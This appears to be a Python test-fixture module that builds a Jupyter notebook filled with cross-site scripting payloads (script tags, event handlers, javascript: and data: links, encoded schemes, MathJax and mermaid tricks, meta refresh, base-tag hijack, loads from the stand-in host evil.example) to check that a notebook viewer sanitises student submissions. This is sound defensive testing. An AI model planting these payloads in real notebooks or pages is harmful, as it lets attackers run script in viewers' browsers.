"""What a notebook can hold to act in the browser of whoever looks at it.

Each calls ``hacked('NAME')``, loads something from ``evil.example``, or leads there.
"""

import base64
import json

EVIL = "http://evil.example"


def script(name: str) -> str:
    return f"hacked('{name}')"


_JS = {
    name: f"javascript:{script(name)}"
    for name in ("link", "titled", "reference", "autolink", "anchor", "area", "frame-src")
}
_ENTITIES = "".join(f"&#{ord(c)};" for c in "javascript:") + script("entities")
_HEX = "".join(f"&#x{ord(c):x};" for c in "javascript:") + script("hex")
_DATA = base64.b64encode(f"<script>{script('data')}</script>".encode()).decode()

MARKDOWN = {
    "script": f"<script>{script('script')}</script>",
    "script-case": f"<ScRiPt\n>{script('script-case')}</sCrIpT >",
    "script-src": f"<script src='{EVIL}/script-src'></script>",
    "image": f'<img src=x onerror="{script("image")}">',
    "image-slash": f"<img/src=x/onerror={script('image-slash')}>",
    "image-unclosed": f'text <img src=x onerror="{script("image-unclosed")}" <',
    "vector": f'<svg onload="{script("vector")}"></svg>',
    "vector-script": f"<svg><script>{script('vector-script')}</script></svg>",
    "vector-animate": f'<svg><animate onbegin="{script("vector-animate")}" attributeName=x dur=1s>',
    "frame": f'<iframe srcdoc="<script>{script("frame")}</script>"></iframe>',
    "frame-src": f'<iframe src="{_JS["frame-src"]}"></iframe>',
    "frame-far": f"<iframe src='{EVIL}/frame-far'></iframe>",
    "object": f"<object data='{EVIL}/object'></object>",
    "embed": f"<embed src='{EVIL}/embed'>",
    "toggle": f'<details open ontoggle="{script("toggle")}"><summary>a</summary>b</details>',
    "focus": f'<input autofocus onfocus="{script("focus")}">',
    "video": f'<video><source onerror="{script("video")}" src=x></video>',
    "audio": f'<audio src=x onerror="{script("audio")}"></audio>',
    "style": f"<style>body {{ background: url({EVIL}/style) }}</style>",
    "style-attribute": f'<div style="background:url({EVIL}/style-attribute)">a</div>',
    "sheet": f"<link rel=stylesheet href='{EVIL}/sheet'>",
    "animation": "<style>@keyframes k{}</style>"
    f"<b style='animation:k 1s' onanimationstart=\"{script('animation')}\">a</b>",
    "table": f'| a | b |\n|---|---|\n| <img src=x onerror="{script("table")}"> | c |',
    "quote": f'> - <img src=x onerror="{script("quote")}">',
    "title": f'# <img src=x onerror="{script("title")}">',
    "comment": f'<!-- a --><img src=x onerror="{script("comment")}"><!-- b -->',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={script("mutation")}>">',
    "breakout": f'</div></div></textarea></title><img src=x onerror="{script("breakout")}">',
    "alone-image": f"![a]({EVIL}/alone-image.png)",
    "reference-image": f"![a][pic]\n\n[pic]: {EVIL}/reference-image.png",
    "attribute-image": f"<img src='{EVIL}/attribute-image.png'>",
    # To be clicked.
    "link": f"[Full points: click]({_JS['link']})",
    "titled": f"[click]({_JS['titled']} 'harmless')",
    "reference": f"[click][there]\n\n[there]: {_JS['reference']}",
    "autolink": f"<{_JS['autolink']}>",
    "entities": f"[click]({_ENTITIES})",
    "hex": f"[click]({_HEX})",
    "anchor": f'<a href="{_JS["anchor"]}">click</a>',
    "anchor-split": f'<a href="java&Tab;script&colon;{script("anchor-split")}">click</a>',
    "vector-anchor": f'<svg><a xlink:href="javascript:{script("vector-anchor")}">'
    "<text y=20>click</text></a></svg>",
    "form": f"<form action='{EVIL}/form'><input type=submit value=click></form>",
    "far": f"[Course page]({EVIL}/far)",
    "bare": f"{EVIL}/bare and www.evil.example/bare",
    "data": f"[click](data:text/html;base64,{_DATA})",
    "vbscript": "[click](vbscript:hacked)",
    # TeX, for MathJax.
    "tex-href": r"$\href{javascript:hacked('tex-href')}{x^2}$",
    "tex-href-outside": r"\\begin{equation}\\href{javascript:hacked('t')}{x}\\end{equation}",
    "tex-entity": r"&#36;&#92;hr&#101;f{javascript:hacked('e')}{x}&#36;",
    "tex-require": r"$\require{html}\unicode{x41}\style{color:red}{x}\class{a}{x}\cssId{b}{x}$",
    "tex-box": r"$\bbox[background:url(http://evil.example/box)]{x}$",
    "tex-macro": r"$\def\h{\hr}\let\a\href\newcommand{\b}{\href{javascript:hacked('m')}}\b{x}$",
    "tex-loop": r"$\def\a{\a\a}\a$",
    "tex-deep": "$" + "{" * 3000 + "x" + "}" * 3000 + "$",
    "mermaid": '```mermaid\ngraph TD\nA-->B\nclick A href "javascript:hacked(1)"\n```',
    "missing-attachment": "![a](attachment:missing.png)",
}

# These leave the page, so a test looks at them one by one.
LEAVING = {
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "base": f"<base href='{EVIL}/base/'>",
}

CLICKED = ("link", "titled", "reference", "autolink", "entities", "hex", "anchor", "anchor-split")

_WIDGET = "application/vnd.jupyter.widget-view+json"
OUTPUTS = {
    "html": {"text/html": f'<img src=x onerror="{script("html")}">'},
    "javascript": {"application/javascript": script("javascript")},
    "javascript-text": {"text/javascript": script("javascript-text")},
    "svg": {
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{script('svg')}\"/>"
    },
    "markdown": {"text/markdown": f'<img src=x onerror="{script("markdown")}">'},
    "latex": {"text/latex": f"$\\href{{javascript:{script('latex')}}}{{x}}$"},
    "widget": {_WIDGET: {"model_id": "a</script><script>hacked('widget')</script>"}},
    "mermaid-output": {"text/vnd.mermaid": f'<img src=x onerror="{script("mermaid-output")}">'},
    "pdf": {"application/pdf": "JVBERi0="},
    "false-png": {"image/png": f'x" onerror="{script("false-png")}'},
    "svg-as-png": {"image/png": base64.b64encode(b"<svg onload='hacked(1)'/>").decode()},
    "json": {"application/json": {"a": "<script>hacked('json')</script>"}},
    "card": {
        "text/html": '<div style="border-left:5px solid #2e8b57"><strong>passed</strong>'
        f'<img src=x onerror="{script("card")}"></div>'
    },
}


def _markdown(name: str, source: str) -> dict:
    return {"cell_type": "markdown", "id": f"p-{name}"[:60], "metadata": {}, "source": source}


def cells(*, leaving: bool = False) -> list[dict]:
    """Cells that a student might add."""
    found = [_markdown(name, source) for name, source in MARKDOWN.items()]
    if leaving:
        found += [_markdown(name, source) for name, source in LEAVING.items()]
    found.append(
        _markdown("attached", "![a](attachment:a.svg) ![b](attachment:b.png)")
        | {
            "attachments": {
                "a.svg": {"image/svg+xml": base64.b64encode(b"<svg onload='hacked(1)'/>").decode()},
                "b.png": {"image/png": f'x" onerror="{script("attached")}'},
            }
        }
    )
    raw = {"cell_type": "raw", "id": "raw", "source": MARKDOWN["image"].replace("image", "raw")}
    found.append(raw | {"metadata": {"raw_mimetype": "text/html", "format": "text/html"}})
    code = {
        "cell_type": "code",
        "id": "outputs",
        "metadata": {"collapsed": False, "tags": ["remove_cell"]},
        "execution_count": 7,
        "source": "# </pre><script>hacked('source')</script> \u202e\u2066 x",
    }
    outputs: list[dict] = [
        {"output_type": "display_data", "metadata": {}, "data": data | {"text/plain": name}}
        for name, data in OUTPUTS.items()
    ]
    broken = "<img src=x onerror=\"hacked('error')\">"
    outputs += [
        {"output_type": "stream", "name": "stdout", "text": f"</pre>{broken}\x1b]8;;{EVIL}\x07a"},
        {"output_type": "error", "ename": broken, "evalue": broken, "traceback": [broken]},
    ]
    found.append(code | {"outputs": outputs})
    return found


METADATA = {
    "title": "</title><script>hacked('title')</script>",
    "kernelspec": {"name": "python3", "display_name": "<script>hacked('k')</script>"},
    "language_info": {"name": "python\"><script>hacked('l')</script>", "pygments_lexer": "html"},
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"a": "</script><script>hacked('state')</script>"},
            "version_major": 2,
            "version_minor": 0,
        }
    },
}


def submission(notebook: dict, *, leaving: bool = False) -> dict:
    """The notebook with everything in it."""
    made = json.loads(json.dumps(notebook))
    made["cells"] = made["cells"][:2] + cells(leaving=leaving) + made["cells"][2:]
    made["metadata"] = METADATA
    return made
